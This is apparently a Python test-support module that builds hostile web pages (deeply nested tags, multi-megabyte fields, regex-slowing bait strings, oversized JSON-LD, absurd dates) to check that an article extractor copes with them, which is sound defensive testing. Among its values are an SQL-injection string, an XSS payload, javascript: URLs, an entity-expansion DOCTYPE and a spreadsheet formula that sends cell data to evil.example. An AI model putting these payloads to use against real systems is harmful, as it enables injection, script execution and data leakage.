"""Markup that is deep, wide, or slow for regular expressions to search."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable
from random import Random

from tests.support.hostile.answers import STORY, article, whole
from tests.support.hostile.server import Answer


def _page(make: Callable[[], str]) -> Answer:
    def answer(_url: str, _path: str) -> Iterable[bytes]:
        return whole(make())

    return answer


def _deep(tag: str, levels: int = 100_000) -> Answer:
    """An article inside many levels of elements, none of which is closed."""
    return _page(lambda: article(f"<{tag}>" * levels + f"<p>{STORY[0]}</p>"))


def _deep_and_closed() -> str:
    return article("<div>" * 100_000 + "deep down" + "</div>" * 100_000)


def _links(url: str, _path: str) -> Iterable[bytes]:
    return whole("".join(f'<a href="/l/{each}">{each}</a>' for each in range(330_000)))


def _in_head(make: Callable[[], str]) -> Answer:
    return _page(lambda: article(in_head=make()))


def _json_ld(make: Callable[[], str]) -> Answer:
    return _in_head(lambda: f'<script type="application/ld+json">{make()}</script>')


def _dated(date: str) -> Answer:
    return _page(
        lambda: article(
            in_head=f'<meta property="article:published_time" content="{date}">',
            before=f'<time datetime="{date}">{date}</time>',
        )
    )


def _baits() -> str:
    """One text for each form of regular expression that is applied to texts and URLs."""
    baits = [
        "." * 60_000 + "!x",
        "a" * 60_000 + "\n",
        ("9" * 30 + ",") * 3_000,
        "1-1(1)" * 10_000,
        "(((" * 20_000 + ")" * 20_000,
        "&" + "a" * 60_000,
        "<" * 60_000,
        "<!" + "-" * 60_000,
        "\"'”’»」』)]" * 8_000 + "x",
        "n't " * 15_000,
        "A. " * 20_000,
        "Mr. O'" * 10_000,
        "\u00ad\u200b" * 30_000,
        "東" * 60_000,
        "http://" * 9_000,
        "@" * 30_000 + "." * 30_000,
        " \t\u00a0" * 20_000 + "x",
        "2024-" * 12_000,
        "£$€" * 20_000,
    ]
    return article("".join(f"<p>{bait.replace('<', '&lt;')}</p>" for bait in baits) + baits[6])


def _bait_in_head() -> str:
    long = "a" * 200_000
    return (
        f'<meta name="author" content="{"by " * 50_000}">'
        f'<meta name="date" content="{"1/" * 50_000}">'
        f'<meta property="og:locale" content="{long}">'
        f'<link rel="canonical" href="/{"%" * 100_000}">'
        f'<meta name="keywords" content="{"," * 200_000}">'
        f'<meta name="description" content="{long}">'
        f'<meta property="og:image" content="data:image/png;base64,{long}">'
    )


def _wide_table() -> str:
    return article(
        '<table><tr><td colspan="1000000000" rowspan="1000000000">x</td></tr></table>' * 50
    )


def _long_table() -> str:
    rows = "".join(f"<tr><td>{each}</td><td>fish</td></tr>" for each in range(50_000))
    return article(f"<table>{rows}</table>")


def _quoted(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


SQL = "'); DROP TABLE articles; --"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _two_words() -> str:
    """Long paragraphs, each near-duplicate to the others, in which everything repeats."""
    dice = Random(1)
    turns = " ".join(dice.choices(("la", "le"), k=20_000))
    return article("".join(f"<p>{each}th of all {turns} {each}</p>" for each in range(9)))


KINDS: dict[str, tuple[Answer, str, str]] = {
    "div-100000-deep": (_deep("div"), "archived|not-article", ""),
    "div-100000-deep-and-closed": (_page(_deep_and_closed), "archived", ""),
    "span-100000-deep": (_deep("span"), "archived|not-article", ""),
    "quote-100000-deep": (_deep("blockquote"), "archived|not-article", ""),
    "list-100000-deep": (_deep("ul><li"), "archived|not-article", ""),
    "table-10000-deep": (_deep("table><tr><td", 10_000), "archived|not-article", ""),
    "font-100000-deep": (_deep("font"), "archived|not-article", ""),
    "unknown-100000-deep": (_deep("palimpsest"), "archived|not-article", ""),
    "svg-100000-deep": (_deep("svg><g"), "archived|not-article", ""),
    "template-100000-deep": (_deep("template"), "archived|not-article", ""),
    "table-with-a-span-of-a-billion": (_page(_wide_table), "archived", ""),
    "table-of-50000-rows": (_page(_long_table), "archived|timeout", ""),
    "links-by-the-hundred-thousand": (_links, "not-article|timeout", ""),
    "attributes-by-the-hundred-thousand": (
        _page(lambda: article(f"<p {' '.join(f'a{each}=b' for each in range(100_000))}>x</p>")),
        "archived|timeout",
        "",
    ),
    "attribute-of-5-megabytes": (
        _page(lambda: article(f'<p title="{"t" * 5_000_000}">x</p>')),
        "archived",
        "",
    ),
    "paragraph-of-9-megabytes": (
        _page(lambda: article(f"<p>{'word ' * 1_800_000}</p>")),
        "archived|timeout|error",
        "",
    ),
    "paragraph-of-20-megabytes": (
        _page(lambda: article(f"<p>{'word ' * 4_000_000}</p>")),
        "error",
        "larger than allowed",
    ),
    "word-of-5-megabytes": (_page(lambda: article(f"<p>{'w' * 5_000_000}</p>")), "archived", ""),
    "paragraphs-by-the-hundred-thousand": (
        _page(lambda: article("".join(f"<p>Fish number {each}.</p>" for each in range(100_000)))),
        "archived|timeout",
        "",
    ),
    "same-paragraph-50000-times": (
        _page(lambda: article(f"<p>{STORY[1]}</p>" * 20_000)),
        "archived|timeout",
        "",
    ),
    "line-breaks-by-the-hundred-thousand": (
        _page(lambda: article(f"<p>{'line<br>' * 100_000}</p>")),
        "archived|timeout",
        "",
    ),
    "comments-by-the-hundred-thousand": (
        _page(lambda: article("<!-- no -->" * 100_000)),
        "archived",
        "",
    ),
    "comment-that-never-ends": (
        _page(lambda: article() + "<!--" + "x" * 1_000_000),
        "archived",
        "",
    ),
    "script-that-never-ends": (
        _page(lambda: article() + "<script>" + "x;" * 500_000),
        "archived",
        "",
    ),
    "title-that-never-ends": (_page(lambda: "<title>" + "t" * 1_000_000), "not-article", ""),
    "title-of-a-megabyte": (_page(lambda: article(title="T" * 1_000_000)), "archived", ""),
    "title-that-is-sql": (_page(lambda: article(title=_quoted(SQL))), "archived", ""),
    "title-that-is-markup": (_page(lambda: article(title=_quoted(MARKUP))), "archived", ""),
    "title-that-is-a-formula": (_page(lambda: article(title=_quoted(FORMULA))), "archived", ""),
    "bait-for-patterns": (_page(_baits), "archived|timeout", ""),
    "bait-for-patterns-in-the-head": (_in_head(_bait_in_head), "archived|timeout", ""),
    "entities-by-the-million": (
        _page(lambda: article(f"<p>{'&amp;' * 1_000_000}</p>")),
        "archived",
        "",
    ),
    "paragraphs-of-two-words-in-turn": (_page(_two_words), "archived", ""),
    "characters-of-endless-numbers": (
        _page(lambda: article(f"<p>&#{'9' * 50_000}; &amp;#{'7' * 50_000}</p>")),
        "archived",
        "",
    ),
    "entities-in-html": (
        _page(
            lambda: (
                '<!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
                + article("<p>&b;&b;&b;</p>")
            )
        ),
        "archived",
        "",
    ),
    "json-100000-deep": (_json_ld(lambda: "[" * 100_000 + "]" * 100_000), "archived", ""),
    "json-of-2-megabytes": (
        _json_ld(lambda: json.dumps([{"@type": "NewsArticle"}] * 80_000)),
        "archived",
        "",
    ),
    "json-with-a-number-of-a-megabyte": (
        _json_ld(lambda: '{"@type": "NewsArticle", "n": ' + "9" * 1_000_000 + "}"),
        "archived",
        "",
    ),
    "json-with-odd-types": (
        _json_ld(lambda: '{"@type": [1, null, {"a": []}], "datePublished": {"x": 1}, "@graph": 7}'),
        "archived",
        "",
    ),
    "date-in-year-0": (_dated("0000-00-00T00:00:00Z"), "archived", ""),
    "date-in-year-99999": (_dated("99999-12-31T23:59:59Z"), "archived", ""),
    "date-before-christ": (_dated("-0044-03-15"), "archived", ""),
    "date-of-a-megabyte": (_dated("2" * 1_000_000), "archived", ""),
    "base-that-is-a-script": (
        _in_head(lambda: '<base href="javascript:alert(1)//">'),
        "archived",
        "",
    ),
    "canonical-elsewhere": (
        _in_head(lambda: '<link rel="canonical" href="https://elsewhere.example/stolen">'),
        "archived",
        "",
    ),
    "canonical-that-is-a-script": (
        _in_head(lambda: '<link rel="canonical" href="javascript:alert(1)">'),
        "archived",
        "",
    ),
    "frames-by-the-hundred-thousand": (
        _page(lambda: article("<iframe src=/></iframe>" * 100_000)),
        "archived",
        "",
    ),
    "tags-that-never-close": (
        _page(lambda: article("<a <b <c " * 100_000)),
        "archived|not-article",
        "",
    ),
    "nothing-but-brackets": (_page(lambda: "<" * 1_000_000), "not-article", ""),
}
